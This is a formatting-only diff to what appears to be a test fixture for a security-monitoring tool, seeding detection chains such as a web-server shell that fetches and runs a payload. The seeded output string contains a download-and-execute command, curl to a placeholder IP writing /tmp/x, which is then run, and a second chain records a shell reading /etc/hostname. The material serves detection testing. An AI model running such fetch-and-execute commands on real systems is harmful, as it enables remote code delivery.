@@ -22,7 +22,7 @@ export function addStoryChains(dbPath: string): StoryChains {
   const execOf = (pid: number, name: string): number =>
     id("SELECT exec_id FROM execs WHERE pid = ? AND name = ? AND kind = 'exec' ORDER BY exec_id LIMIT 1", pid, name);
   const execs = {
-    nginx: id("SELECT exec_id FROM execs WHERE pid = 2351"),
+    nginx: id('SELECT exec_id FROM execs WHERE pid = 2351'),
     sh: execOf(4001, 'sh'),
     curl: execOf(4002, 'curl'),
     x: execOf(4005, 'x'),
@@ -34,21 +34,33 @@ export function addStoryChains(dbPath: string): StoryChains {
     VALUES (?, ?, 1, ?, ?, ?, ?, ?, ?, 0)`);
   const insertStep = db.prepare(`INSERT INTO chain_steps (chain_match_id, step_index, step, exec_id, ts_ns, linked_step, relation, path_json)
     VALUES (?, ?, ?, ?, ?, ?, ?, ?)`);
-  const match = (chain: string, priority: string, container: string | null, output: string, steps: [string, number, string | null, number[] | null][]): number => {
+  const match = (
+    chain: string,
+    priority: string,
+    container: string | null,
+    output: string,
+    steps: [string, number, string | null, number[] | null][],
+  ): number => {
     const first = steps[0]![1];
     const last = steps[steps.length - 1]![1];
     const matchId = Number(insertMatch.run(chain, priority, container, first, last, ts(first), ts(last), output).lastInsertRowid);
     steps.forEach(([step, execId, relation, path], i) =>
-      insertStep.run(matchId, i, step, execId, ts(execId), relation === null ? null : 0, relation, path === null ? null : JSON.stringify(path)));
+      insertStep.run(matchId, i, step, execId, ts(execId), relation === null ? null : 0, relation, path === null ? null : JSON.stringify(path)),
+    );
     return matchId;
   };
   // Inserted first but starts later than the host match: the screen must order by start time.
-  const payload = match('Web service shell fetches and runs a payload', 'Critical', '3f9a1c0e2b7d',
-    'payload run from /tmp/x after curl -s -o /tmp/x http://203.0.113.7/x', [
+  const payload = match(
+    'Web service shell fetches and runs a payload',
+    'Critical',
+    '3f9a1c0e2b7d',
+    'payload run from /tmp/x after curl -s -o /tmp/x http://203.0.113.7/x',
+    [
       ['shell', execs.sh, null, [execs.nginx, execs.sh]],
       ['fetch', execs.curl, 'descendant_of', [execs.sh, execs.curl]],
       ['run', execs.x, 'descendant_of', [execs.sh, execs.x]],
-    ]);
+    ],
+  );
   const hostRead = match('Interactive shell reads host identity', 'Notice', null, 'bash read /etc/hostname', [
     ['shell', execs.bash, null, null],
     ['read', execs.catHostname, 'descendant_of', [execs.bash, execs.catHostname]],
